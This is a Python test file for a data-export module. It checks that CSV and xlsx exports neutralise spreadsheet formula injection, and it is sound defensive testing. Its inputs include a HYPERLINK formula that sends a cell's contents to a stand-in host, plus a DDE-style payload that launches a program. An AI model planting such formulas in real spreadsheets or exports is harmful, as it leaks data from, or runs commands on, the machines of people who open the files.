"""Formula injection: every cell of every export, CSV or xlsx, is neutralised.

The rule is OWASP's CSV injection guidance: text beginning with = + - @ TAB or CR is what
a spreadsheet runs as a formula; in CSV it gets a leading apostrophe, in xlsx it is a typed
text cell (never a formula cell).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from opsdesk.core.imports import plan
from opsdesk.core.imports.export import export_xlsx
from opsdesk.core.imports.problems import to_csv
from opsdesk.core.kpi.commands import AddKpi
from tests.core.imports import corpus

LIVE = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'


def test_problems_csv_neutralises_header_names_and_values(workspace: Any, tmp_path: Path) -> None:
    # A source whose value column is named like a formula, with bad cells starting with
    # a tab, a carriage return, @ and - (each would run in Excel or LibreOffice).
    source = corpus.text(
        tmp_path / "bad.csv",
        f'Date,KPI,"{LIVE.replace(chr(34), chr(34) * 2)}"\n'
        '2024-01-01,OEE,"\t=1+1"\n2024-01-02,OEE,"\r=2+2"\n'
        "2024-01-03,OEE,@SUM(A1)\n2024-01-04,OEE,-cmd|' /C calc'!A0\n",
    )
    given = {"date": "Date", "kpi": "KPI", "value": LIVE}
    prepared = plan.prepare(workspace.conn, source, plan.Options(given=given))
    assert len(prepared.problems) == 4
    rows = list(csv.reader(io.StringIO(to_csv(prepared.problems))))
    assert rows[0] == ["row", "column", "value", "reason"]
    for row in rows[1:]:
        assert row[1] == "'" + LIVE  # the header name, inert
        assert row[2].startswith("'") and row[2][1] in "\t\r@-", row
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_xlsx_export_neutralises_text_in_every_column(workspace: Any, tmp_path: Path) -> None:
    kpi_id = workspace.execute(
        AddKpi({"name": "=1+1", "unit": "@x", "direction": "higher", "frequency": "monthly",
                "aggregation": "mean"})
    ).result
    # Another program wrote text into the date, value and sample-size columns (SQLite
    # keeps text in a REAL column when it is not a number).
    with workspace.transaction() as conn:
        conn.execute(
            "INSERT INTO observations (kpi_id, ts, value, sample_size, subgroup, segment, note,"
            " source_key) VALUES (?, '=NOW()', '=2+2', '+3+3', '-4', '\t=5', '\r=6', '@7')",
            (kpi_id,),
        )
    out = tmp_path / "out.xlsx"
    assert export_xlsx(workspace.conn, out) == 1
    from openpyxl import load_workbook

    sheet = load_workbook(out).active
    cells = sheet[2]
    # (XML reads a carriage return back as a line feed)
    assert [c.value for c in cells] == ["=NOW()", "=1+1", "=2+2", "@x", "-4", "+3+3", "\t=5",
                                        "\n=6", "@7"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [
        (c.value, c.data_type) for c in cells
    ]
